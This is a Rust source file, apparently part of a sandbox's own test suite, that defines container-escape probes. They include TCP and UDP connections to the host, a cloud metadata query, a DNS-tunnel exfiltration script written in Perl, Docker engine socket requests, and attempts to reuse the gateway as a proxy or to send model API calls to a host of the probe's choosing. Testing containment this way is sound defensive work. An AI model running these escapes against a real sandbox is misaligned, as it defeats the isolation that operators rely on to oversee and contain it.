//! Out of the container by network or socket.

use crate::attack::{Attack, Wall};

pub const ALL: &[Attack] = &[
    Attack {
        name: "reach-host-bridge",
        tries: "opens a TCP connection to the host's address on a bridge",
        script: r#"tell "$GATEWAY" "$PORT""#,
        wall: Wall::NoNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "reach-host-address",
        tries: "opens a TCP connection to the host's own address",
        script: r#"tell "$HOST_ADDRESS" "$PORT""#,
        wall: Wall::NoNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "reach-web",
        tries: "fetches over HTTP from a server outside",
        script: r#"git ls-remote "http://$GATEWAY:$PORT/$name""#,
        wall: Wall::NoNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "reach-metadata",
        tries: "asks the cloud's metadata address",
        script: r#"tell "$METADATA" "$METADATA_PORT""#,
        wall: Wall::NoNetwork,
        judge: |s| s.said("connected").then(|| "it was connected".to_owned()),
        no_control: None,
    },
    Attack {
        name: "send-datagram",
        tries: "sends a UDP datagram out",
        script: r#"bash -c 'echo "$name" >"/dev/udp/$GATEWAY/$PORT"'"#,
        wall: Wall::NoNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "dns-tunnel",
        tries: "carries data out in the name of a DNS query",
        script: r#"perl -MIO::Socket::INET -e '
    my $s = IO::Socket::INET->new(PeerAddr => $ENV{GATEWAY}, PeerPort => $ENV{PORT}, Proto => "udp") or die "$!\n";
    my @labels = ($ENV{name}, "tunnel", "example");
    print $s pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } @labels) . pack("Cnn", 0, 16, 1)'"#,
        wall: Wall::NoNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "resolve-name",
        tries: "has a name resolved",
        script: r#"getent hosts "$RESOLVES" && echo resolved"#,
        wall: Wall::NoNetwork,
        judge: |s| {
            s.said("resolved")
                .then(|| "the name was resolved".to_owned())
        },
        no_control: None,
    },
    Attack {
        name: "abstract-socket",
        tries: "connects to a socket of the host that has no file",
        script: r#"ask "@$ABSTRACT" "$name
""#,
        wall: Wall::OwnNetwork,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "see-interfaces",
        tries: "lists the network interfaces of the host",
        script: "cat /proc/net/dev; ls /sys/class/net",
        wall: Wall::OwnNetwork,
        judge: |s| {
            s.said("br-")
                .then(|| "it sees a bridge of the host".to_owned())
        },
        no_control: None,
    },
    Attack {
        name: "engine-socket",
        tries: "asks the container engine for a container of its own",
        script: r#"for s in /run/docker.sock /var/run/docker.sock; do
  ask "$s" "GET /version HTTP/1.0

"
done"#,
        wall: Wall::NoEngine,
        judge: |s| s.said("HTTP/1.").then(|| "the engine answered".to_owned()),
        no_control: None,
    },
    Attack {
        name: "kernel-socket",
        tries: "speaks to kernel and gateway over their own sockets",
        script: r#"for s in kernel.sock gateway.sock; do
  ask "$FACTORY/$s" "POST /factory/v1/wake HTTP/1.0

"
done"#,
        wall: Wall::Mounts,
        judge: |s| s.said("HTTP/1.").then(|| "somebody answered".to_owned()),
        no_control: None,
    },
    Attack {
        name: "other-door",
        tries: "connects to another run's door",
        script: r#"ls "$FACTORY/run" /run/factory; ask "$OTHER_DOOR" "$name
""#,
        wall: Wall::Mounts,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "door-as-proxy",
        tries: "has the gateway fetch from an address of its choice",
        script: r#"ask /run/factory/gw.sock "GET http://$LOCAL/$name HTTP/1.0

"
ask /run/factory/gw.sock "CONNECT $LOCAL HTTP/1.0

""#,
        wall: Wall::Door,
        judge: |s| s.was_heard(),
        no_control: None,
    },
    Attack {
        name: "model-elsewhere",
        tries: "has a model call sent to a host that it names itself",
        script: r#"b="{\"model\": \"$name\"}"
for p in /v1/messages /v1/responses /v1/chat/completions; do
  ask /run/factory/gw.sock "POST $p HTTP/1.0
Host: $LOCAL
X-Forwarded-Host: $LOCAL
Content-Length: ${#b}

$b"
done"#,
        wall: Wall::Door,
        judge: |s| s.was_heard(),
        no_control: None,
    },
];
